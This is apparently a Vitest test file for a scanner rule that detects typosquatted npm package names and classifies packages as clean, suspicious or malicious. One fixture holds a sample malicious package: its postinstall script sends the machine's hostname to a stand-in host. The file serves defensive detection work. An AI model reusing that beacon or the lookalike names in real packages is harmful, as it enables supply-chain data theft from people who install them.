import { describe, expect, test } from 'vitest';
import { manifest, scanFiles } from '../test/helpers/analyze.js';
import { finding } from '../test/helpers/findings.js';

const RULE = 'typosquat';

describe('typosquat reports', () => {
  test.each([
    ['expresss', 'express', 'medium'],
    ['exprses', 'express', 'medium'],
    ['crossenv', 'cross-env', 'medium'],
    ['l0dash', 'lodash', 'medium'],
    ['@typess/node', '@types/node', 'medium'],
    ['express-js', 'express', 'low'],
    ['types-node', '@types/node', 'low'],
  ])('"%s" as an imitation of "%s" (%s), naming the target', (name, target, severity) => {
    const r = scanFiles({ 'package.json': manifest({ name }), 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toEqual([finding(severity as 'medium' | 'low', ['registry:typosquat'], { message: expect.stringContaining(`"${target}"`) })]);
  });

  test('a typosquat alone stays clean: a name is not a payload', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'expresss' }), 'index.js': 'module.exports = 1;' });
    expect(r.verdict).toBe('clean');
  });

  test('a typosquat that beacons out from its postinstall is malicious', () => {
    const r = scanFiles({
      'package.json': manifest({ name: 'electorn', scripts: { postinstall: 'node setup.js' } }),
      'setup.js': "require('https').get('https://collector.invalid/?h=' + require('os').hostname());\n",
    });
    expect(r.of(RULE)).toHaveLength(1);
    expect(r.verdict).toBe('malicious');
    expect(r.reasons.join('\n')).toContain('imitates a popular package');
  });

  test('a typosquat with an install script and no visible network code is suspicious', () => {
    const r = scanFiles({ 'package.json': manifest({ name: 'lodahs', scripts: { postinstall: 'node setup.js' } }), 'setup.js': 'console.log("thanks");\n' });
    expect(r.verdict).toBe('suspicious');
  });
});

describe('typosquat stays quiet on', () => {
  test.each(['express', 'lodash', '@types/node', 'react-dom', 'tidy-lib', 'fixture', 'my-own-helpers', '@acme/express'])('%s', (name) => {
    const r = scanFiles({ 'package.json': manifest({ name }), 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toEqual([]);
  });

  test('a package without a name', () => {
    const r = scanFiles({ 'package.json': JSON.stringify({ version: '1.0.0' }), 'index.js': 'module.exports = 1;' });
    expect(r.of(RULE)).toEqual([]);
  });
});
